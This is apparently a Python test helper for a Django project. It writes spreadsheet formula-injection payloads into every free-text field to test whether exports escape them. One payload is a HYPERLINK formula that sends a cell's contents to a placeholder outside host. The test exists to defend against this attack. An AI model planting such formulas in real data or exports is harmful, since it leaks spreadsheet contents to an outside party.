"""Formula-like text in every free-text field of every record, as a user or an import
could have typed it (forms may refuse some of it; the records are written directly, so the
exports are tested whatever the forms let through)."""

from __future__ import annotations

from typing import Any

from django.apps import apps
from django.db import models
from django.db.models.functions import Cast, Concat

from koers.core import append_only

# What OWASP lists as the start of a formula in a spreadsheet (a cell beginning with =,
# +, -, @, a tab or a carriage return), a formula that calls out, and an error value, which
# a writer that guesses types turns into an error cell instead of text.
PAYLOADS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("https://example.org/?leak="&A1,"Klik")',
    "#N/A",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Keys the code looks things up by, not text anyone reads: poisoning them would break the
# lookup (an access record no longer about a person, a derived indicator without its
# measure), not test an export.
IDENTIFIERS = {
    "accounts.User.password",
    "core.AuditEntry.action",
    "core.AuditEntry.context",
    "core.AuditEntry.subject_type",
    "core.RateLimitHit.key",
    # CBS's codes of a statistic's region, period and breakdown, and the keys Koers looks a
    # topic up by (koers.insight): what the dashboards pick values with.
    "insight.Observation.region",
    "insight.Observation.period",
    "insight.Observation.breakdown",
    "insight.FigureNote.region",
    "insight.FigureNote.period",
    "insight.KeyFigure.breakdown",
    "insight.KeyFigure.denominator_breakdown",
    "insight.Category.key",
    "insight.Topic.key",
    "plans.Indicator.measure",
    "privacy.AccessRecord.subject_type",
    "reports.ReportDocument.language",
    "reports.ReportDocument.sha256",
    "reports.ReportSnapshot.sha256",
}


# JSON fields: the lists of text someone typed or imported (poisoned item by item), and
# the others, with why they are left alone; a test fails on a JSON field in neither.
JSON_TEXT_LISTS = {"funding.BudgetTable.columns"}
JSON_NOT_TEXT = {
    "api.ApiToken.scopes": "scope codes, shown by their labels",
    "atlas.NetworkSnapshot.changes": "ids and figures of the network analysis",
    "atlas.NetworkSnapshot.fragility": "ids and figures of the network analysis",
    "atlas.ProposedChange.values": "a contact's proposed values, shown on the review page "
    "(escaped), which no export writes",
    "core.AuditEntry.changes": "the audit trail, which no export writes",
    "core.MunicipalityBoundary.geometry": "coordinates of municipal boundaries, numbers",
    "funding.BudgetTableRow.cells": "amounts, as decimal strings",
    "matching.HelpRequest.required_qualifications": "codes of qualification kinds, shown by "
    "their labels",
    "matching.PendingSignup.answers": "a sign-up's answers until she confirms, which no "
    "export writes",
    "matching.Proposal.reasons": "reason codes with figures, rendered through their "
    "translated sentences (escaped), which no export writes",
    "matching.ProposalRun.stats": "figures of a run of the matcher, which no export writes",
    "plans.Indicator.measure_params": "parameters the derived measure reads",
    "signals.ClassifierModel.metrics": "precision, recall and support per category id, numbers",
    "signals.Signal.scrubbed": "counts per kind of what the scrubber took out, never the text",
    "reports.ReportSnapshot.content": "made from the records when a report is sent",
}


def json_fields() -> set[str]:
    return {
        f"{model._meta.label}.{field.name}"
        for model in apps.get_models()
        if model.__module__.startswith("koers.")
        for field in model._meta.concrete_fields
        if isinstance(field, models.JSONField)
    }


def free_text_fields() -> list[tuple[type[models.Model], models.Field]]:
    """Every field of Koers's models that holds text someone typed or imported: character
    and text fields without fixed choices, not unique keys or slugs, not `IDENTIFIERS`."""
    found = []
    for model in apps.get_models():
        if not model.__module__.startswith("koers."):
            continue
        for field in model._meta.concrete_fields:
            if not isinstance(field, models.CharField | models.TextField):
                continue
            if field.choices or field.unique or isinstance(field, models.SlugField):
                continue
            if f"{model._meta.label}.{field.name}" in IDENTIFIERS:
                continue
            found.append((model, field))
    return found


def _unique_together(model: type[models.Model]) -> set[str]:
    """Fields that are unique only together with others (a goal's code per funder)."""
    names = {name for group in model._meta.unique_together for name in group}
    for constraint in model._meta.constraints:
        if isinstance(constraint, models.UniqueConstraint):
            names.update(constraint.fields)
    return names


PK_ROOM = 8  # " " and up to seven digits of a primary key


def poison(payload: str) -> int:
    """Write `payload` (cut to the field's length) into every free-text field of every
    record — followed by the record's number where the field is unique together with
    others, so the records stay distinct — and into every item of the lists of text kept
    as JSON; returns how many records were changed. The logs are append-only in the
    database, so their triggers are lifted for the poisoning and put back after it (inside
    the test's transaction, which rolls both back)."""
    append_only.lift()
    try:
        return _poison(payload)
    finally:
        append_only.install()


def _poison(payload: str) -> int:
    changed = 0
    for model, field in free_text_fields():
        if field.name in _unique_together(model):
            cut = payload[: field.max_length - PK_ROOM] if field.max_length else payload
            value: Any = Concat(
                models.Value(cut + " "), Cast("pk", models.CharField()), output_field=field
            )
        else:
            value = payload[: field.max_length] if field.max_length else payload
        changed += model._base_manager.update(**{field.attname: value})
    for label in JSON_TEXT_LISTS:
        app_model, name = label.rsplit(".", 1)
        records = apps.get_model(app_model)._base_manager
        for pk, items in records.values_list("pk", name):
            changed += records.filter(pk=pk).update(**{name: [payload] * len(items)})
    return changed
